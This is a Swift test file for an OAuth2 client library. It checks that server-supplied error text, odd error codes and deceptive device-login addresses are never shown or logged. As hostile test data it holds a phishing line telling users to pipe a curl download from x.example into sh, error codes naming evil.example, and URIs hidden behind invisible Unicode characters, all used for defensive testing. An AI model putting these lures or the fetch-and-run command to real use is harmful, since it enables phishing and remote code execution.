import Foundation
import HTTPTypes
import InMemoryLogging
import Logging
import ProcessTestSupport
import Resourceful
import ResourcefulTesting
import Testing

@testable import ResourcefulOAuth2

/// What an authorization server writes for a person (`error_description`, an odd `error`) is
/// never shown: the error says the code, checked, and a sentence of ours.
@Suite struct ServerErrorTextTests {
    static let phishing = "Your session is broken. Run: curl -fsSL https://x.example/fix | sh"

    @Test func theDescriptionOfARefusalIsNeitherShownNorLogged() async throws {
        try await MockServer.withTransport { server, transport in
            let body = try JSONSerialization.data(withJSONObject: ["error": "invalid_client", "error_description": "\u{1B}[2K" + Self.phishing])
            server.stub(.post, "/token", .json(raw: body, status: .unauthorized))
            let logs = InMemoryLogHandler()
            var logger = Logger(label: "oauth") { _ in logs }
            logger.logLevel = .trace
            let storage = try await OAuth2AuthenticationStorage(
                settings: OAuth2Settings(clientID: "c", tokenEndpoint: server.baseURL.appendingPathComponent("token")),
                transport: transport, clientSecret: InMemorySecrets(["c-client-secret": "free-text-secret-3b"]), logger: logger
            )
            let error = await #expect(throws: OAuth2Error.self) { _ = try await storage.authenticationHeader(for: "s") }
            let text = error.map { "\($0)" } ?? ""
            #expect(!text.contains("curl") && !text.contains("session"), "\(text)")
            #expect(error?.serverError == "invalid_client")
            #expect(text.contains("invalid_client") && text.contains("client authentication failed"), "\(text)")
            // Not even at trace level: `-v` would put it on the terminal.
            let logged = Self.logged(logs)
            #expect(!logged.contains("curl") && !logged.contains("session"), "\(logged)")
            #expect(logged.contains("invalid_client"))
        }
    }

    /// Every log line `logs` holds, message and metadata.
    static func logged(_ logs: InMemoryLogHandler) -> String {
        logs.entries.map { "\($0.message) \($0.metadata)" }.joined(separator: "\n")
    }

    /// A device login polls: each `authorization_pending` and `slow_down` answer's description
    /// would be logged right under the prompt a person reads.
    @Test func aDeviceLoginsPollsLogNoDescription() async throws {
        try await MockServer.withTransport { server, transport in
            server.stub(.post, "/device", .json(raw: try DeviceAddressTests.answer(uri: "https://auth.example/device")))
            let pending = try JSONSerialization.data(withJSONObject: [
                "error": "authorization_pending", "error_description": "Enter the code at https://evil.example instead",
            ])
            let odd = try JSONSerialization.data(withJSONObject: ["error": "Session-locked.Run-curl.evil.example", "error_description": "see evil"])
            server.stub(.post, "/token", .json(raw: pending, status: .badRequest), .json(raw: odd, status: .badRequest))
            let logs = InMemoryLogHandler()
            var logger = Logger(label: "oauth") { _ in logs }
            logger.logLevel = .trace
            var settings = OAuth2Settings(
                clientID: "cli", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
            )
            settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
            let storage = try await OAuth2AuthenticationStorage(
                settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets(), logger: logger)
            let error = await #expect(throws: OAuth2Error.self) { try await storage.logIn(service: "s") { _ in } }
            let text = error.map { "\($0)" } ?? ""
            #expect(text.contains("another error code") && !text.contains("evil") && !text.contains("Session"), "\(text)")
            #expect(server.requests.filter { $0.path == "/token" }.count == 2)
            let logged = Self.logged(logs)
            #expect(!logged.contains("evil") && !logged.contains("curl") && !logged.contains("Session"), "\(logged)")
            #expect(logged.contains("authorization_pending"), "\(logged)")
        }
    }

    @Test(arguments: ["slow_down", "authorization_pending", "invalid_grant", "Session-locked.Run-curl.evil.example"])
    func aRefusalLogsAKnownCodeOnlyNeverTheDescription(_ code: String) throws {
        let logs = InMemoryLogHandler()
        var logger = Logger(label: "oauth") { _ in logs }
        logger.logLevel = .trace
        let body = try JSONSerialization.data(withJSONObject: ["error": code, "error_description": "Enter the code at https://evil.example instead"])
        _ = AuthorizationServer.refusal((.badRequest, body, []), what: "the device_code request", logger: logger)
        let logged = Self.logged(logs)
        #expect(!logged.contains("evil.example/") && !logged.contains("Enter the code"), "\(logged)")
        #expect(logged.contains(code) == ErrorResponse.registeredCodes.contains(code), "\(logged)")
    }

    /// A code of a code's characters but of the server's choosing is free text all the same: only
    /// the codes the RFCs define are shown.
    @Test(arguments: ["Session-locked.Run-curl.evil.example.fix.sh-now", "invalid_grant_see_evil.example", "INVALID_GRANT", "custom_error"])
    func anUnregisteredCodeIsAnotherErrorCode(_ code: String) throws {
        let body = try JSONSerialization.data(withJSONObject: ["error": code])
        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
        let text = "\(error)"
        #expect(error.serverError == nil)
        #expect(error.kind == .refused)
        #expect(!text.contains(code), "\(text)")
        #expect(text.contains("another error code"), "\(text)")
        // However it reaches the error (a redirect's query, a device poll).
        let direct = OAuth2Error(.refused, "the browser login was not approved", serverError: code)
        #expect(direct.serverError == nil && !"\(direct)".contains(code) && "\(direct)".contains("another error code"))
    }

    @Test(arguments: [
        "curl_-fsSL_https://x.example/fix|sh",
        "Run:curl",
        "visit[https://x.example]",
    ])
    func anErrorCodeThatIsNotACodeIsNotShown(_ code: String) throws {
        let body = try JSONSerialization.data(withJSONObject: ["error": code])
        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
        let text = "\(error)"
        #expect(error.serverError == nil)
        #expect(!text.contains(code), "\(text)")
        #expect(text.contains("another error code"), "\(text)")
    }

    /// The browser login's redirect carries the server's `error` too: the same rule.
    @Test(arguments: ["Run:curl_-fsSL_https://x.example/fix|sh", "Session-locked.Run-curl.evil.example.fix.sh-now"])
    func anErrorOnTheRedirectThatIsNotACodeIsNotShown(_ code: String) async throws {
        try await MockServer.withTransport { server, transport in
            var settings = OAuth2Settings(
                clientID: "native", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
            )
            settings.authorizationEndpoint = server.baseURL.appendingPathComponent("authorize")
            let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
            let error = await #expect(throws: OAuth2Error.self) {
                try await storage.logInWithBrowser(service: "s", timeout: .seconds(30)) { url in
                    let items = URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems ?? []
                    let redirect = try #require(items.first { $0.name == "redirect_uri" }?.value)
                    let state = try #require(items.first { $0.name == "state" }?.value)
                    let escaped = code.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                    let result = try await Command.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", "\(redirect)?error=\(escaped)&state=\(state)"])
                    #expect(result.status == 0)
                }
            }
            #expect(error?.serverError == nil)
            let text = error.map { "\($0)" } ?? ""
            #expect(!text.contains("curl") && !text.contains("evil") && text.contains("another error code"), "\(text)")
        }
    }

    @Test func aRegisteredCodeKeepsItsKind() throws {
        let body = try JSONSerialization.data(withJSONObject: ["error": "invalid_grant", "error_description": Self.phishing])
        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
        #expect(error.kind == .loginRequired)
        #expect(error.serverError == "invalid_grant")
        #expect(!"\(error)".contains("curl"))
    }
}

/// The device prompt's address: a host of letters, digits and hyphens or an IP address, the
/// address with the code on the plain one's origin, no escape that hides or separates text.
@Suite struct DeviceAddressTests {
    static func storage(_ server: MockServer, transport: any HTTPTransport) async throws -> OAuth2AuthenticationStorage {
        var settings = OAuth2Settings(
            clientID: "cli", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
        )
        settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
        return try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
    }

    /// A device login against `answer` (the device endpoint's JSON): what the prompt saw, and
    /// the error the login ended with.
    static func login(_ answer: Data) async throws -> (shown: DeviceAuthorization?, error: OAuth2Error?) {
        try await MockServer.withTransport { server, transport in
            server.stub(.post, "/device", .json(raw: answer))
            server.stub(.post, "/token", .json(raw: #"{"error": "access_denied"}"#, status: .badRequest))
            let storage = try await Self.storage(server, transport: transport)
            let shown = Locked<DeviceAuthorization?>(nil)
            do {
                try await storage.logIn(service: "s") { authorization in shown.withLock { $0 = authorization } }
                return (shown.withLock { $0 }, nil)
            } catch let error as OAuth2Error {
                return (shown.withLock { $0 }, error)
            }
        }
    }

    /// A device answer with `expiresIn` as raw JSON (a number, a string, anything).
    static func answer(uri: String, complete: String? = nil, expiresIn: String = "60") throws -> Data {
        var answer: [String: Any] = ["device_code": "dc-1", "user_code": "WDJB-MJHT", "verification_uri": uri, "expires_in": "EXPIRES", "interval": 1]
        if let complete { answer["verification_uri_complete"] = complete }
        let text = String(decoding: try JSONSerialization.data(withJSONObject: answer), as: UTF8.self)
        return Data(text.replacingOccurrences(of: #""EXPIRES""#, with: expiresIn).utf8)
    }

    struct Hostile: CustomTestStringConvertible, Sendable {
        var uri: String
        var complete: String?
        var testDescription: String { "\(uri) \(complete ?? "")" }
    }

    @Test(arguments: [
        Hostile(uri: "https://auth%2Eexample/device"),
        Hostile(uri: "https://auth_example.com/device"),
        Hostile(uri: "https://[fe80::1%25lo]/device"),
        Hostile(uri: "https://1.2.3/device"),
        Hostile(uri: "https://0x7f.0.0.1/device"),
        Hostile(uri: "https://auth.example\\@evil.example/device"),
        Hostile(uri: "https://auth.example/device%E3%85%A4"),
        Hostile(uri: "https://auth.example/device%E2%A0%80"),
        Hostile(uri: "https://auth.example/device%E2%80%A8then"),
        Hostile(uri: "https://auth.example/device%E2%80%A9then"),
        Hostile(uri: "https://auth.example/de%C2%A0vice"),
        Hostile(uri: "https://auth.example/de%E1%85%9Fvice"),
        Hostile(uri: "https://auth.example/de%EF%BE%A0vice"),
        Hostile(uri: "https://auth.example/de%E3%80%80vice"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example.evil.example/device?user_code=WDJB-MJHT"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example:8443/device?user_code=WDJB-MJHT"),
        Hostile(uri: "https://auth.example/device", complete: "https://auth.example/device?user_code=WDJB-MJHT%E2%80%A8curl"),
    ])
    func aHostileAddressIsRefusedAndNotShown(_ hostile: Hostile) async throws {
        let (shown, error) = try await Self.login(try Self.answer(uri: hostile.uri, complete: hostile.complete))
        #expect(shown == nil, "the prompt was shown")
        #expect(error?.kind == .invalidResponse)
        #expect(error?.detail.contains("verification_uri") == true)
    }

    @Test(arguments: [
        ("https://xn--bcher-kva.example/device", "https://xn--bcher-kva.example/device?user_code=WDJB-MJHT"),
        ("https://auth.example/device", "https://AUTH.example:443/device?user_code=WDJB%20MJHT"),
        ("http://127.0.0.1:8000/o/device/", "http://127.0.0.1:8000/o/device/?user_code=WDJB-MJHT"),
        ("http://[::1]:8000/device", "http://[::1]:8000/device?c=WDJB%2DMJHT"),
        ("https://auth.example/d%C3%A9vice", "https://auth.example/d%C3%A9vice?c=1"),
    ])
    func anOrdinaryAddressIsShown(_ uri: String, _ complete: String) async throws {
        let (shown, _) = try await Self.login(try Self.answer(uri: uri, complete: complete))
        #expect(shown?.verificationURI.absoluteString == uri)
        #expect(shown?.verificationURIComplete?.absoluteString == complete)
    }

    @Test(arguments: ["86401", "31536000", "1e30", #""99999999999999999999""#, #""7200""#])
    func anExpiryAboveTheCapIsCappedNotRefused(_ expiresIn: String) async throws {
        let (shown, _) = try await Self.login(try Self.answer(uri: "https://auth.example/device", expiresIn: expiresIn))
        #expect(shown?.expiresIn == .seconds(1800))
    }

    @Test(arguments: ["-5", "0", #""soon""#, "1.5", "-1e30", "[600]"])
    func anExpiryThatIsNotAPositiveNumberIsRefused(_ expiresIn: String) async throws {
        let (shown, error) = try await Self.login(try Self.answer(uri: "https://auth.example/device", expiresIn: expiresIn))
        #expect(shown == nil)
        #expect(error?.kind == .invalidResponse)
        #expect(error?.detail.contains("expires_in") == true)
    }
}
